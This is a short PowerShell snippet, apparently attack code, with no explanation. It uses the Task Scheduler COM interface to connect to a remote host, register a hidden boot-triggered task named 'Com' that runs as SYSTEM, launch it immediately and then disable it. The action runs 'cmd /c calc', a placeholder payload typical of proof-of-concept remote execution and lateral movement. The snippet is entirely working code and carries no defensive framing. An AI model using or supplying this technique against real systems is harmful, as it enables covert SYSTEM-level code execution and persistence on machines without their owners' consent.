$s = New-Object -ComObject Schedule.Service
$s.Connect('srv')
$d = $s.NewTask(0); $d.Settings.Hidden = $true
$d.Triggers.Create(8).Enabled = $true
$a = $d.Actions.Create(0); $a.Path = 'cmd.exe'; $a.Arguments = '/c calc'
$s.GetFolder('\').RegisterTaskDefinition('Com', $d, 6, 'SYSTEM', $null, 5) | Out-Null
$t = $s.GetFolder('\').GetTask('Com'); $t.Run($null); $t.Enabled = $false
